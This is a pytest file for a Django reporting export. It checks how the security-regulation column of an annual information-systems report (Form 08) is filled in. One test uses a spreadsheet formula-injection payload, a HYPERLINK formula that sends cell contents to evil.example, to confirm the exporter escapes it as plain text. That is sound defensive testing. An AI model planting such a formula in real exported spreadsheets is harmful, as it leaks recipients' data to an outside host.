"""Form 08 column 8, "Quy chế bảo đảm an toàn hệ thống thông tin (số, ngày, cơ quan ban hành)": the number, date
of issue and issuing body of the latest regulation document of the system's approved dossier; the file only when
none of the three was given, and said so in the cell. Read back from the exported workbook."""

import datetime as dt

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from approvals import services as approvals
from approvals.models import Decision, Dossier, DossierStep
from reporting.exports import form08
from systems_registry.models import InformationSystem
from tests import factories
from tests.exports.conftest import rows_of

TODAY = timezone.localdate()
ISSUER = "Ủy ban nhân dân tỉnh Quảng Ninh"
COLUMN_8 = 7  # zero-based in a row


@pytest.fixture
def report_year():
    return TODAY.year if dt.date(TODAY.year, 12, 14) >= TODAY else TODAY.year + 1


def approved_system(
    demo, name, regulations=({"number": "123/QĐ-UBND", "issued_on": dt.date(2026, 3, 2), "issuer": ISSUER},)
):
    """A level-2 system whose dossier is approved, with one security regulation per entry of `regulations`."""
    target = factories.leveled_system(demo, 2, name=name)
    dossier = approvals.create_dossier(actor=demo.operator, system_id=target.pk, proposed_level=2, title="Hồ sơ")
    factories.add_documents(demo.operator, dossier, regulation=False)
    for n, fields in enumerate(regulations):
        upload = SimpleUploadedFile(
            f"quy-che-{n}.pdf", factories.pdf_bytes(f"quy che {n}"), content_type="application/pdf"
        )
        approvals.add_document(
            actor=demo.operator, dossier_id=dossier.pk, kind="security_regulation", upload=upload, **fields
        )
    approvals.submit_dossier(actor=demo.operator, dossier_id=dossier.pk)
    Dossier.objects.filter(pk=dossier.pk).update(status="approved", decision_number="9/QĐ-UBND", decision_date=TODAY)
    DossierStep.objects.filter(dossier=dossier).update(decision=Decision.APPROVED)
    InformationSystem.objects.filter(pk=target.pk).update(approved_dossier_id=dossier.pk, approved_level=2)
    return target


def column_8(export, demo, report_year) -> dict[str, object]:
    job, wb = export(demo.owner, "annual_report", {"owner_id": demo.org("QNI").pk, "year": report_year})
    assert job["status"] == "done", job
    sheet = wb["Phần 3 - Danh sách HTTT"]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    return {r[1]: r[COLUMN_8] for r in rows_of(sheet)}


def test_column_8_reports_number_date_and_issuing_body(demo, export, report_year):
    approved_system(demo, "Có quy chế")
    assert column_8(export, demo, report_year)["Có quy chế"] == f"Số 123/QĐ-UBND, ngày 02/03/2026, {ISSUER}"


def test_the_latest_regulation_wins(demo, export, report_year):
    approved_system(demo, "Hai quy chế", regulations=(
        {"number": "1/QĐ-UBND", "issued_on": dt.date(2025, 1, 6), "issuer": ISSUER},
        {"number": "88/QĐ-UBND", "issued_on": dt.date(2026, 5, 20), "issuer": ISSUER},
    ))  # fmt: skip
    assert column_8(export, demo, report_year)["Hai quy chế"] == f"Số 88/QĐ-UBND, ngày 20/05/2026, {ISSUER}"


def test_the_latest_regulation_without_details_shows_its_file_not_an_older_decision(demo, export, report_year):
    # The newest regulation replaces the older one: reporting the older one's number would name a superseded text.
    approved_system(demo, "Quy chế mới chưa nhập", regulations=(
        {"number": "1/QĐ-UBND", "issued_on": dt.date(2025, 1, 6), "issuer": ISSUER}, {},
    ))  # fmt: skip
    assert column_8(export, demo, report_year)["Quy chế mới chưa nhập"] == form08.REGULATION_FILE_ONLY.format(
        filename="quy-che-1.pdf", uploaded=f"{TODAY:%d/%m/%Y}"
    )


def test_a_regulation_without_details_falls_back_to_its_file_and_says_so(demo, export, report_year):
    approved_system(demo, "Quy chế cũ", regulations=({},))
    cell = column_8(export, demo, report_year)["Quy chế cũ"]
    assert cell == f"Tệp quy-che-0.pdf, tải lên ngày {TODAY:%d/%m/%Y} (chưa nhập số, ngày ban hành, cơ quan ban hành)"
    assert not cell.startswith("Số ")


def test_partial_details_print_what_was_given(demo, export, report_year):
    approved_system(demo, "Chỉ có số", regulations=({"number": "5/QĐ-UBND"},))
    approved_system(
        demo, "Chỉ có ngày và cơ quan", regulations=({"issued_on": dt.date(2026, 1, 15), "issuer": ISSUER},)
    )
    cells = column_8(export, demo, report_year)
    assert cells["Chỉ có số"] == "Số 5/QĐ-UBND"
    assert cells["Chỉ có ngày và cơ quan"] == f"ngày 15/01/2026, {ISSUER}"


def test_an_issuer_that_looks_like_a_formula_stays_text(demo, export, report_year):
    approved_system(demo, "Cơ quan độc hại", regulations=({"issuer": '=HYPERLINK("http://evil.example/?"&A1,"x")'},))
    assert column_8(export, demo, report_year)["Cơ quan độc hại"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_a_system_without_a_regulation_has_an_empty_column_8(demo, export, report_year):
    factories.leveled_system(demo, 2, name="Không có hồ sơ")
    assert column_8(export, demo, report_year)["Không có hồ sơ"] is None


def test_the_report_rows_take_the_same_number_of_queries_for_one_system_or_many(demo):
    owner = demo.org("QNI")
    start, end = form08.reporting_period(TODAY.year + 1)

    def queries() -> int:
        with CaptureQueriesContext(connection) as ctx:
            rows = form08.report_rows(form08.owner_systems(owner.pk, end), start, end)
        assert all(isinstance(r["regulation"], str) for r in rows)
        return len(ctx.captured_queries)

    approved_system(demo, "Một")
    one = queries()
    for n in range(3):
        approved_system(demo, f"Thêm {n}", regulations=({"number": f"{n}/QĐ-UBND"}, {}))
    assert queries() == one


def test_the_demo_report_shows_a_real_regulation(db, report_year):
    from tests.personas import load_demo

    demo = load_demo(seeders=["accounts.demo.seed", "systems_registry.demo.seed", "approvals.demo.seed"])
    start, end = form08.reporting_period(report_year)
    rows = {r["code"]: r for r in form08.report_rows(form08.owner_systems(demo.org("QNI").pk, end), start, end)}
    for code in ("QNI-INTRANET", "QNI-LGSP"):
        dossier = Dossier.objects.get(system__code=code)
        issued = (TODAY - dt.timedelta(days=30)).strftime("%d/%m/%Y")
        assert rows[code]["regulation"] == f"Số {dossier.pk}/QĐ-UBND, ngày {issued}, {ISSUER}"
